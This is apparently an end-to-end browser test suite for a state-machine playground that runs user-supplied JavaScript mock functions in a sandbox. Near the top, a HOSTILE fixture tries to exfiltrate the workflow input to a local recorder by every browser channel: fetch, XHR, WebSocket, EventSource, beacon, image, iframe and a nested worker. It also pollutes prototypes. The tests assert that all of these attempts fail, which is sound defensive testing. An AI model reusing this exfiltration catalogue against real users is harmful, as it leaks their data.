// The mocks' JavaScript in its sandbox, end to end in Chromium: a shared link's hostile code
// reaches no network and leaves nothing for the next run; consent is bound to the code (undo
// and paste ask again, typing does not); JS mocks at instant speed and the same virtual times
// at every speed; a stuck function ends with a clear error; the playground framed by another
// site runs no user code; frame.html refuses origin=*.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { setup, server, browser, openPage, typeText } from './page.mjs';

setup(); // the site (www/)
let other; // another origin: hosts that frame the site
let leak; // a third origin that records every request it gets
const hits = [];
const hostPages = new Map(); // path -> HTML served by `other`

/** A server on 127.0.0.1 (a free port): {url, close()}. */
function listen(handler, onUpgrade) {
  const s = createServer(handler);
  if (onUpgrade) s.on('upgrade', onUpgrade);
  return new Promise((ok) =>
    s.listen(0, '127.0.0.1', () => {
      const { port } = s.address();
      ok({ url: `http://127.0.0.1:${port}/`, origin: `http://127.0.0.1:${port}`, close: () => new Promise((r) => s.close(r)) });
    }),
  );
}

before(async () => {
  leak = await listen(
    (req, res) => {
      hits.push(`${req.method} ${req.url}`);
      res.writeHead(200, { 'content-type': 'text/plain', 'access-control-allow-origin': '*' });
      res.end('recorded');
    },
    (req, socket) => {
      hits.push(`upgrade ${req.url}`);
      socket.destroy();
    },
  );
  other = await listen((req, res) => {
    const page = hostPages.get(new URL(req.url, 'http://x').pathname);
    res.writeHead(page ? 200 : 404, { 'content-type': 'text/html; charset=utf-8' });
    res.end(page || 'not found');
  });
});

after(async () => {
  await leak?.close();
  await other?.close();
});

/** A fresh page (empty storage) that records its uncaught exceptions (its sandboxes log on purpose). */
const openQuiet = (path = '') => openPage({ path, console: false });

/** Run through the page's API: the result, or {rejected: message}. */
function run(page, speed) {
  return page.evaluate((speed) => window.statelab.run({ speed }).catch((e) => ({ rejected: e.message })), speed);
}

const statusOf = (page) => page.evaluate(() => document.querySelector('[data-testid=status]').dataset.status);
const sandboxes = (page) => page.evaluate(() => document.querySelectorAll('iframe[data-testid=sandbox]').length);
/** A definition of one Task, Call, whose output is its result's Payload. */
const oneTask = (extra = {}) => ({ StartAt: 'Call', States: { Call: { Type: 'Task', Resource: 'arn:aws:states:::lambda:invoke', OutputPath: '$.Payload', ...extra, End: true } } });

// Everything a function could try to reach the network with, from its worker; each attempt
// says how it ended. It also leaves a global and a patched prototype behind.
const HOSTILE = `async (input) => {
  const to = (what) => 'LEAK' + what + '?secret=' + encodeURIComponent(JSON.stringify(input));
  const tried = {};
  const attempt = async (name, f) => {
    try {
      const r = await f();
      tried[name] = 'no error: ' + String(r);
    } catch (e) {
      tried[name] = String(e && e.name);
    }
  };
  const settle = (setup) => new Promise((resolve, reject) => { setup(resolve, reject); setTimeout(() => reject(new Error('no answer')), 1500); });
  await attempt('fetch', () => fetch(to('fetch'), { mode: 'no-cors' }).then((r) => r.status));
  await attempt('xhr', () => settle((ok, no) => { const x = new XMLHttpRequest(); x.open('GET', to('xhr')); x.onload = () => ok(x.status); x.onerror = () => no(new TypeError('xhr failed')); x.send(); }));
  await attempt('websocket', () => settle((ok, no) => { const w = new WebSocket(to('ws').replace('http', 'ws')); w.onopen = () => ok('open'); w.onerror = () => no(new TypeError('websocket failed')); }));
  await attempt('eventsource', () => settle((ok, no) => { const s = new EventSource(to('events')); s.onopen = () => ok('open'); s.onerror = () => { s.close(); no(new TypeError('eventsource failed')); }; }));
  await attempt('importScripts', () => importScripts(to('import.js')));
  await attempt('image', () => { const i = new Image(); i.src = to('image'); return 'set'; });
  await attempt('beacon', () => navigator.sendBeacon(to('beacon'), 'x'));
  await attempt('iframe', () => { const f = document.createElement('iframe'); f.src = to('iframe'); document.body.append(f); return 'appended'; });
  await attempt('nested worker', () => settle((ok, no) => {
    const src = 'fetch(' + JSON.stringify(to('nested')) + ', { mode: "no-cors" }).then(() => postMessage("fetched"), (e) => postMessage("refused " + e.name))';
    const w = new Worker(URL.createObjectURL(new Blob([src])));
    w.onmessage = (e) => (e.data === 'fetched' ? ok(e.data) : no(new TypeError(e.data)));
  }));
  const before = { global: globalThis.leftBehind ?? null, proto: ({}).patched ?? null };
  globalThis.leftBehind = 'from an earlier run';
  Object.prototype.patched = 'from an earlier run';
  Array.prototype.map = () => 'patched';
  return { Payload: { tried, before } };
}`;

test("a shared link's hostile mock reaches no network, and leaves nothing behind for the next run", async () => {
  const work = { definition: oneTask(), input: { card: '4242' }, mocks: { Call: { function: HOSTILE.replaceAll('LEAK', leak.url) } } };
  const a = await openQuiet();
  await a.page.evaluate((w) => window.statelab.load(w, { trusted: false }), work);
  const url = await a.page.evaluate(() => window.statelab.share());
  await a.context.close();

  const { page, context, problems } = await openQuiet(url.slice(server.url.length));
  // The link's code waits for consent.
  await page.waitForSelector('#consent:not([hidden])');
  assert.match(await page.textContent('#consent'), /you did not write here/);
  const refused = await run(page, 'instant');
  assert.match(refused.rejected, /did not write here .*allow it to run/);
  assert.equal(await sandboxes(page), 0, 'no sandbox for code not allowed');
  assert.equal(hits.length, 0);

  const outputs = [];
  for (let i = 0; i < 2; i++) {
    const before = await page.evaluate(() => window.statelab.runsEnded);
    if (i === 0) await page.click('[data-testid=consent-allow]');
    else await page.click('[data-testid=run]');
    await page.waitForFunction((n) => window.statelab.runsEnded > n, before, { timeout: 30000 });
    const result = await page.evaluate(() => window.statelab.result);
    assert.equal(result?.status, 'SUCCEEDED', JSON.stringify(result ?? (await page.textContent('[data-testid=status]'))));
    outputs.push(result.output);
    assert.equal(await sandboxes(page), 0, 'the sandbox is removed after the run');
  }
  const { tried } = outputs[0];
  for (const name of ['fetch', 'xhr', 'websocket', 'eventsource', 'importScripts', 'nested worker']) {
    assert.doesNotMatch(tried[name], /no error/, `${name}: ${tried[name]}`);
  }
  // A worker has no DOM: no image, beacon or frame to reach the network with.
  for (const name of ['image', 'beacon', 'iframe']) assert.match(tried[name], /ReferenceError|TypeError/, `${name}: ${tried[name]}`);
  // Nothing the first run set is there in the second, nor in the page.
  assert.deepEqual(outputs[0].before, { global: null, proto: null });
  assert.deepEqual(outputs[1].before, { global: null, proto: null });
  assert.deepEqual(await page.evaluate(() => [globalThis.leftBehind, {}.patched, [1].map((x) => x + 1)]), [undefined, undefined, [2]]);
  await page.waitForTimeout(500);
  assert.deepEqual(hits, [], 'the recorder got no request');
  assert.deepEqual(problems, []);
  await context.close();
});

test("the sandbox document's own policy refuses the network too (image, beacon, frame, fetch), where a page without it does not", async () => {
  const { page, context } = await openQuiet();
  // A function that waits, so that its sandbox is there to look into.
  await page.evaluate(() =>
    window.statelab.load({
      definition: { StartAt: 'Call', States: { Call: { Type: 'Task', Resource: 'arn:aws:states:::lambda:invoke', End: true } } },
      mocks: { Call: { function: 'async () => { await new Promise((r) => setTimeout(r, 3000)); return {}; }' } },
    }),
  );
  const running = run(page, 'instant');
  let frame;
  for (let i = 0; i < 100 && !frame; i++) {
    frame = page.frames().find((f) => f.url().endsWith('/sandbox.html'));
    if (!frame) await page.waitForTimeout(50);
  }
  assert.ok(frame, 'the sandbox frame');
  await frame.waitForLoadState();
  const inside = await frame.evaluate(async (leakUrl) => {
    const out = { origin: self.origin };
    new Image().src = `${leakUrl}doc-image`;
    out.beacon = navigator.sendBeacon(`${leakUrl}doc-beacon`, 'x');
    const f = document.createElement('iframe');
    f.src = `${leakUrl}doc-frame`;
    document.body.append(f);
    out.fetch = await fetch(`${leakUrl}doc-fetch`, { mode: 'no-cors' }).then(
      () => 'fetched',
      (e) => e.name,
    );
    try {
      out.storage = typeof localStorage.length;
    } catch (e) {
      out.storage = e.name;
    }
    return out;
  }, leak.url);
  assert.equal(inside.origin, 'null', 'an opaque origin');
  assert.equal(inside.fetch, 'TypeError');
  assert.equal(inside.storage, 'SecurityError');
  assert.equal((await running).status, 'SUCCEEDED');
  await page.waitForTimeout(500);
  assert.deepEqual(hits, []);

  // The same requests from a page without that policy do reach the recorder: it records.
  const control = await context.newPage();
  await control.goto(`${leak.url}control`);
  await control.evaluate(async (leakUrl) => {
    new Image().src = `${leakUrl}control-image`;
    navigator.sendBeacon(`${leakUrl}control-beacon`, 'x');
    await fetch(`${leakUrl}control-fetch`);
  }, leak.url);
  await control.waitForTimeout(500);
  for (const what of ['control-image', 'control-beacon', 'control-fetch'])
    assert.ok(
      hits.some((h) => h.includes(what)),
      `${what} in ${hits}`,
    );
  hits.length = 0;
  await context.close();
});

test('consent follows the code: undo and paste ask again, typed code runs without asking', async () => {
  const fn = { Call: { function: 'async () => ({ Payload: { from: "link" } })' } };
  const a = await openQuiet();
  await a.page.evaluate(
    (mocks) =>
      window.statelab.load(
        { definition: { StartAt: 'Call', States: { Call: { Type: 'Task', Resource: 'arn:aws:states:::lambda:invoke', OutputPath: '$.Payload', End: true } } }, mocks },
        { trusted: false },
      ),
    fn,
  );
  const url = await a.page.evaluate(() => window.statelab.share());
  await a.context.close();

  const { page, context } = await openQuiet(url.slice(server.url.length));
  await page.waitForSelector('#consent:not([hidden])');
  // (Later than the editor's history joins changes into one undo step, as a person would.)
  await page.waitForTimeout(600);
  // An example's work loaded over the link's, in the same workspace (the page's API; the
  // gallery would open it in a workspace of its own): its code is the page's own.
  await page.evaluate(async () => {
    const [definition, input, mocks] = await Promise.all(['definition', 'input', 'mocks'].map((f) => fetch(`examples/image-pipeline/${f}.json`).then((r) => r.text())));
    window.statelab.load({ definition, input, mocks });
  });
  await page.waitForFunction(() => window.statelab.work().mocks.includes('Resize'));
  await page.waitForSelector('#consent', { state: 'hidden' });
  // Undo in the mocks editor brings the link's code back: consent is asked again.
  await page.click('#tab-mocks');
  await page.click('[data-testid=mocks-editor] .cm-content');
  await page.keyboard.press('Control+z');
  await page.waitForFunction(() => window.statelab.work().mocks.includes('from: \\"link\\"'));
  await page.waitForSelector('#consent:not([hidden])');
  const undone = await run(page, 'instant');
  assert.match(undone.rejected, /did not write here/);
  // Saved so, it still asks after a reload.
  await page.waitForTimeout(400);
  await page.reload();
  await page.evaluate(() => window.statelab.ready);
  assert.match(await page.evaluate(() => window.statelab.work().mocks), /from: \\"link\\"/);
  assert.match((await run(page, 'instant')).rejected, /did not write here/);

  // Typed by the user, keystroke by keystroke: theirs, it runs.
  await page.evaluate((definition) => window.statelab.load({ definition, mocks: {} }), oneTask());
  const typed = '{"Call": {"function": "async (input) => ({ Payload: { typed: 1 } })"}}';
  await typeText(page, 'mocks', typed);
  const mine = await run(page, 'instant');
  assert.equal(mine.status, 'SUCCEEDED', JSON.stringify(mine));
  assert.deepEqual(mine.output, { typed: 1 });
  await page.waitForSelector('#consent', { state: 'hidden' });

  // Pasted: not typed here, so it asks.
  await page.keyboard.press('Control+a');
  await page.evaluate(() => {
    const data = new DataTransfer();
    data.setData('text/plain', '{"Call": {"function": "async () => ({ Payload: { pasted: 1 } })"}}');
    document.querySelector('[data-testid=mocks-editor] .cm-content').dispatchEvent(new ClipboardEvent('paste', { clipboardData: data, bubbles: true, cancelable: true }));
  });
  await page.waitForFunction(() => window.statelab.work().mocks.includes('pasted'));
  await page.waitForSelector('#consent:not([hidden])');
  assert.match((await run(page, 'instant')).rejected, /did not write here/);
  // Allowed: this exact code runs; an edit of it typed afterwards is still the user's.
  const before = await page.evaluate(() => window.statelab.runsEnded);
  await page.click('[data-testid=consent-allow]');
  await page.waitForFunction((n) => window.statelab.runsEnded > n, before);
  assert.deepEqual(await page.evaluate(() => window.statelab.result.output), { pasted: 1 });
  await page.click('[data-testid=mocks-editor] .cm-content');
  await page.keyboard.press('Control+End');
  for (let i = 0; i < 8; i++) await page.keyboard.press('ArrowLeft'); // after `pasted: 1`
  await page.keyboard.type('0');
  await page.waitForFunction(() => window.statelab.work().mocks.includes('pasted: 10'));
  const edited = await run(page, 'instant');
  assert.deepEqual(edited.output, { pasted: 10 }, JSON.stringify(edited));
  await context.close();
});

const PARALLEL = {
  StartAt: 'Both',
  States: {
    Both: {
      Type: 'Parallel',
      Next: 'Pause',
      Branches: [
        {
          StartAt: 'Greet',
          States: {
            Greet: { Type: 'Task', Resource: 'arn:aws:states:::lambda:invoke', OutputPath: '$.Payload', Retry: [{ ErrorEquals: ['Busy'], IntervalSeconds: 1 }], End: true },
          },
        },
        { StartAt: 'Slow', States: { Slow: { Type: 'Task', Resource: 'arn:aws:states:::lambda:invoke', End: true } } },
      ],
    },
    Pause: { Type: 'Wait', Seconds: 1, Next: 'Again' },
    Again: { Type: 'Task', Resource: 'arn:aws:states:::lambda:invoke', OutputPath: '$.Payload', End: true },
  },
};
const AWAITING = {
  // Awaits a timer, fails its first attempt, and is called again after the Wait.
  Greet: {
    function:
      'async (input, ctx) => { await new Promise((r) => setTimeout(r, 50)); if (ctx.attempt === 0) throw Object.assign(new Error("try again"), { name: "Busy" }); return { Payload: { hello: input.name, attempt: ctx.attempt } }; }',
    latency: 0.5,
  },
  Slow: { result: { ok: true }, latency: 2 },
  Again: { function: 'async (input) => { await new Promise((r) => setTimeout(r, 20)); return { Payload: { again: input.length } }; }' },
};

test('JS mocks at instant speed: awaited work finishes, and the virtual times are those of speed 1', async () => {
  const { page, context, problems } = await openQuiet();
  await page.evaluate((w) => window.statelab.load(w), { definition: PARALLEL, input: { name: 'Ada' }, mocks: AWAITING });
  const instant = await run(page, 'instant');
  assert.equal(instant.status, 'SUCCEEDED', JSON.stringify(instant));
  assert.deepEqual(instant.output, { again: 2 });
  // Greet: 0.5 s, back-off 1 s, 0.5 s; Slow 2 s; then the Wait (1 s) and Again (0 s).
  assert.equal(instant.durationMs, 3000);
  const t0 = Date.now();
  const live = await run(page, '1');
  assert.ok(Date.now() - t0 >= 3000, 'speed 1 takes the workflow time in real time');
  const times = (r) => r.events.map((e) => [e.type, e.ms, e.lane]);
  assert.deepEqual(times(live), times(instant));
  const fast = await run(page, '100');
  assert.deepEqual(times(fast), times(instant));

  // What-if re-runs at instant after an edit, functions and all.
  await page.check('[data-testid=whatif]');
  const ended = await page.evaluate(() => window.statelab.runsEnded);
  await page.click('#tab-input');
  await page.click('[data-testid=input-editor] .cm-content');
  await page.keyboard.press('Control+End');
  await page.keyboard.type(' ');
  await page.waitForFunction((n) => window.statelab.runsEnded > n, ended, { timeout: 15000 });
  await page.waitForFunction(() => window.statelab.result?.status === 'SUCCEEDED');
  assert.equal(await page.evaluate(() => window.statelab.result.durationMs), 3000);
  assert.equal(await statusOf(page), 'SUCCEEDED');
  assert.deepEqual(problems, []);
  await context.close();
});

test('a stuck function ends with a clear error within the time limit, in a sandbox of its own, and the next run works', async () => {
  const { page, context } = await openQuiet();
  await page.evaluate(
    (definition) =>
      window.statelab.load({
        definition,
        mocks: { Call: { function: 'async (input, ctx) => { if (ctx.attempt === 0) { while (true) {} } return { Payload: { attempt: ctx.attempt } }; }' } },
      }),
    oneTask({ Retry: [{ ErrorEquals: ['Sandbox.Timedout'], IntervalSeconds: 1, MaxAttempts: 1 }] }),
  );
  const t0 = Date.now();
  const running = run(page, 'instant');
  await page.waitForTimeout(1000);
  // The page answers while the function spins.
  const t1 = Date.now();
  assert.equal(await page.evaluate(() => 1 + 1), 2);
  assert.ok(Date.now() - t1 < 500);
  const r = await running;
  const took = Date.now() - t0;
  assert.ok(took >= 5000 && took < 9000, `ended after ${took} ms`);
  // The stuck attempt failed with the limit's error; the retry ran in a fresh sandbox.
  assert.equal(r.status, 'SUCCEEDED', JSON.stringify(r));
  assert.deepEqual(r.output, { attempt: 1 });
  const failed = r.events.find((e) => e.type === 'TaskFailed');
  assert.equal(failed.taskFailedEventDetails.error, 'Sandbox.Timedout');
  assert.equal(failed.taskFailedEventDetails.cause, "the mock function of state 'Call' did not return within 5 s; its sandbox was stopped");
  assert.equal(await sandboxes(page), 0);

  // Without a retry the run fails with that error, said in the status.
  await page.evaluate((definition) => window.statelab.load({ definition, mocks: { Call: { function: 'async () => { for (;;) {} }' } } }), oneTask());
  const stuck = await run(page, '1');
  assert.equal(stuck.status, 'FAILED');
  assert.equal(stuck.error, 'Sandbox.Timedout');
  assert.match(await page.textContent('[data-testid=output]'), /did not return within 5 s/);
  // Stop during such a call ends the run at once.
  const spinning = run(page, '1');
  await page.waitForFunction(() => document.querySelector('iframe[data-testid=sandbox]'));
  await page.click('[data-testid=stop]');
  assert.equal((await spinning).status, 'ABORTED');
  assert.equal(await sandboxes(page), 0);
  // The next run works.
  await page.evaluate((definition) => window.statelab.load({ definition, mocks: { Call: { function: 'async () => ({ Payload: 7 })' } } }), oneTask());
  const next = await run(page, 'instant');
  assert.equal(next.status, 'SUCCEEDED');
  assert.equal(next.output, 7);
  await context.close();
});

test('a function that throws fails its Task with the error’s name and message; one that does not compile is said before the run', async () => {
  const { page, context } = await openQuiet();
  await page.evaluate((definition) => window.statelab.load({ definition, mocks: { Call: { function: 'async () => { throw new RangeError("too far") }' } } }), oneTask());
  const thrown = await run(page, 'instant');
  assert.equal(thrown.status, 'FAILED');
  assert.equal(thrown.error, 'RangeError');
  assert.equal(thrown.cause, 'too far');
  await page.evaluate((definition) => window.statelab.load({ definition, mocks: { Call: { function: 'async () => {' } } }), oneTask());
  assert.match((await run(page, 'instant')).rejected, /mocks: the function of state 'Call' does not compile: /);
  await page.evaluate((definition) => window.statelab.load({ definition, mocks: { Call: { function: 'async () => 1', latency: [1, 2] } } }), oneTask());
  assert.match((await run(page, 'instant')).rejected, /the latency of state 'Call' \(a function\) must be a number of seconds/);
  assert.equal(await sandboxes(page), 0);
  await context.close();
});

test('the playground framed by another site runs no user code (and says why); framed by its own origin, it does', async () => {
  const work = { definition: oneTask(), mocks: { Call: { function: 'async () => ({ Payload: "ran" })' } } };
  hostPages.set('/host.html', `<!doctype html><title>host</title><iframe src="${server.url}" width="1200" height="800"></iframe>`);
  const context = await browser.newContext({ viewport: { width: 1300, height: 900 } });
  const page = await context.newPage();
  await page.goto(`${other.url}host.html`);
  let frame;
  for (let i = 0; i < 100 && !frame; i++) {
    frame = page.frames().find((f) => f.url().startsWith(server.url));
    if (!frame) await page.waitForTimeout(100);
  }
  await frame.waitForFunction(() => window.statelab?.ready);
  await frame.evaluate(() => window.statelab.ready);
  await frame.evaluate((w) => window.statelab.load(w), work);
  const refused = await frame.evaluate(() => window.statelab.run({ speed: 'instant' }).catch((e) => ({ rejected: e.message })));
  assert.match(refused.rejected, new RegExp(`does not run while the playground is framed by ${other.origin}`));
  assert.match(await frame.textContent('[data-testid=status]'), /framed by/);
  assert.equal(await frame.evaluate(() => document.querySelectorAll('iframe').length), 0);
  // Work without code still runs there.
  await frame.evaluate(() => window.statelab.load({ definition: { StartAt: 'P', States: { P: { Type: 'Pass', End: true } } } }));
  assert.equal((await frame.evaluate(() => window.statelab.run({ speed: 'instant' }))).status, 'SUCCEEDED');
  await context.close();

  // Framed by a page of its own origin, the code runs.
  const own = await openQuiet();
  await own.page.evaluate((src) => {
    const f = document.createElement('iframe');
    f.src = src;
    f.name = 'inner';
    document.body.append(f);
  }, server.url);
  let inner;
  for (let i = 0; i < 100 && !inner; i++) {
    inner = own.page.frames().find((f) => f.name() === 'inner');
    if (!inner) await own.page.waitForTimeout(100);
  }
  await inner.waitForFunction(() => window.statelab?.ready);
  await inner.evaluate(() => window.statelab.ready);
  await inner.evaluate((w) => window.statelab.load(w), work);
  const ran = await inner.evaluate(() => window.statelab.run({ speed: 'instant' }));
  assert.equal(ran.output, 'ran');
  await own.context.close();
});

test('frame.html refuses origin=* with a message, and takes a listed origin however it is written', async () => {
  const definition = encodeURIComponent(JSON.stringify({ StartAt: 'P', States: { P: { Type: 'Pass', Result: 'done', End: true } } }));
  const hostFor = (origin) => `<!doctype html><title>host</title><script>
    window.got = [];
    addEventListener('message', (e) => window.got.push(e.data));
  </script><iframe id="f" src="${server.url}frame.html?definition=${definition}&origin=${encodeURIComponent(origin)}" width="900" height="500"></iframe>`;
  hostPages.set('/star.html', hostFor('*'));
  hostPages.set('/listed.html', hostFor(`${other.origin.replace('http://', 'HTTP://')}/`));
  const context = await browser.newContext();
  const page = await context.newPage();
  for (const [path, listed] of [
    ['star.html', false],
    ['listed.html', true],
  ]) {
    await page.goto(other.url + path);
    const frame = await (await page.waitForSelector('#f')).contentFrame();
    await frame.waitForSelector('asl-playground');
    if (!listed) {
      assert.match(await frame.textContent('[data-testid=frame-origin-problem]'), /origin '\*' is refused/);
    } else {
      assert.equal(await frame.$('[data-testid=frame-origin-problem]'), null);
    }
    await page.evaluate(() => document.getElementById('f').contentWindow.postMessage({ statelab: 1, type: 'run' }, '*'));
    await page.waitForTimeout(1500);
    const got = await page.evaluate(() => window.got.map((m) => m.type + (m.result ? `:${m.result.output}` : '')));
    if (listed) assert.deepEqual(got, ['ready', 'done:done']);
    else assert.deepEqual(got, [], 'nothing is sent to, or taken from, a parent not listed');
  }
  await context.close();
});
